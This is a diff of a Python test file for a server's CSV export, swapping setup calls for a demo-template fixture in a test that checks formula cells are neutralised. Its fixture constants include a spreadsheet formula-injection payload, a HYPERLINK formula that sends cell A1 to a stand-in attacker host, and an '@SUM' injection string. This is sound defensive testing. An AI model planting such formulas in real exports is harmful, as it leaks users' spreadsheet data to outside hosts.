@@ -13,13 +13,11 @@ from pathlib import Path
 import pytest
 from sqlalchemy import select
 
-from server.app import open_context
 from server.cli import main
-from server.config import ServerConfig
 from server.exports.csv_cells import safe_cell
 from server.services.corrections import correct_record
-from server.services.demo import seed_demo
 from server.storage.tables import records
+from tests.demo_template import DemoTemplates
 
 TERM = '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")'
 REASON = "@SUM(1+1) typo in the term"
@@ -34,12 +32,12 @@ def test_cells_a_spreadsheet_would_run_are_neutralised(cell: object, written: ob
     assert safe_cell(cell) == written
 
 
-def test_every_csv_export_neutralises_formula_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_every_csv_export_neutralises_formula_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                    demo_templates: DemoTemplates) -> None:
     monkeypatch.delenv("DATABASE_URL", raising=False)
     data = tmp_path / "srv"
-    ctx = open_context(ServerConfig(data_dir=data, testing=True))
+    ctx = demo_templates.context(data, admin_password="synthetic-demo-pass")
     with ctx.engine.begin() as conn:
-        seed_demo(conn, ctx.study, admin_password="synthetic-demo-pass")
         record_id = conn.execute(select(records.c.record_id).where(records.c.kind == "adverse_event")).scalar()
         body = conn.execute(select(records.c.body).where(records.c.record_id == record_id)).scalar()
         ae = json.loads(body)["data"]
